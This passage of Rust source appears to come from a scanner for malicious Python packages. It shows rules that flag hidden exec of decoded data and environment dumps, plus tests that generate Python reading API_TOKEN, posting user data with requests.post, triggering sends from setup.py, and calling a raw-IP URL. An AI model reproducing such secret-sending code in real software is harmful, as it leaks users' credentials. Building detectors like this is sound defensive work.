            .any(|c| c.args.iter().any(|a| a.names.iter().any(builtins_name) || a.strings.iter().any(builtins_name)))
            || facts.assigns.iter().any(|a| a.names.iter().any(builtins_name) || a.strings.iter().any(builtins_name)));
    if dynamic_builtin
        && let Some(c) = facts.calls.iter().find(|c| {
            (c.name == "?" || c.name.starts_with("self.") || c.name.starts_with("cls."))
                && c.args.iter().any(|a| {
                    let l = lazy.arg_labels(c.line, a);
                    l.has(Labels::DECODED) || l.has(Labels::FETCHED)
                })
        })
        && !(out.reported("exec-decoded") || out.reported("exec-downloaded"))
    {
        out.push(
            "exec-decoded",
            Severity::Critical,
            "dynamic-code",
            c,
            "hands decoded data to a builtin looked up by a computed name (a hidden exec or eval)".into(),
        );
    }

    // Reading the whole environment (not one variable).
    let whole = |n: &String| n == "os.environ" || n == "os.environ.items" || n == "os.environ.copy";
    let dump_line = facts
        .assigns
        .iter()
        .find(|a| a.names.iter().any(whole))
        .map(|a| a.line)
        .or_else(|| facts.calls.iter().find(|c| c.args.iter().any(|a| a.names.iter().any(whole))).map(|c| c.line));
    if let Some(line) = dump_line {
        out.push_at("environment-dump", Severity::Low, "credentials", line, "reads the whole environment".into());
    }
}

fn entropy(s: &str) -> f64 {
    let mut counts = [0usize; 256];
    for b in s.bytes() {
        counts[b as usize] += 1;
    }
    let n = s.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = c as f64 / n;
            -p * p.log2()
        })
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A generated file with thousands of sinks fed by other modules and of
    /// functions returning secrets leaves at most the bounded lists behind.
    #[test]
    fn what_a_file_leaves_for_the_cross_file_join_is_bounded() {
        use crate::crossfile::{MAX_CALLS_PER_SINK, MAX_PER_FILE};
        let mut src = String::from("import os, requests\n");
        for i in 0..2_000 {
            src.push_str(&format!("def f{i}():\n    return os.getenv('API_TOKEN')\n"));
        }
        let many: Vec<String> = (0..50).map(|j| format!("m{j}.g()")).collect();
        for _ in 0..2_000 {
            src.push_str(&format!("requests.post(u, data=[{}])\n", many.join(", ")));
        }
        let facts = crate::python::parse(&src);
        let mut flows = FileFlows::default();
        check_python("big.py", &src, &facts, "", false, &mut Capabilities::default(), &mut flows);
        assert_eq!(flows.exports.len(), MAX_PER_FILE);
        assert_eq!(flows.sinks.len(), MAX_PER_FILE);
        assert!(flows.sinks.iter().all(|s| s.calls.len() == MAX_CALLS_PER_SINK));

        // Thousands of identity sends in functions, and a setup.py calling
        // thousands of module functions: both lists stay bounded.
        let mut lib = String::from("import getpass, requests\n");
        for i in 0..2_000 {
            lib.push_str(&format!("def s{i}():\n    requests.post(U, data=getpass.getuser())\n"));
        }
        let facts = crate::python::parse(&lib);
        let mut flows = FileFlows::default();
        check_python("pkg/lib.py", &lib, &facts, "", false, &mut Capabilities::default(), &mut flows);
        assert_eq!(flows.deferred.len(), MAX_PER_FILE);
        let setup: String = (0..2_000).map(|i| format!("lib.s{i}()\n")).collect();
        let facts = crate::python::parse(&setup);
        let mut flows = FileFlows::default();
        check_python("setup.py", &setup, &facts, "", true, &mut Capabilities::default(), &mut flows);
        assert_eq!(flows.entries.len(), MAX_PER_FILE);
    }

    #[test]
    fn raw_ip_urls() {
        assert!(has_raw_ip_url("x = 'http://45.61.139.2/p'"));
        assert!(!has_raw_ip_url("'http://10.0.0.5/api'"));
        assert!(!has_raw_ip_url("'https://api.github.com/'"));
    }
}
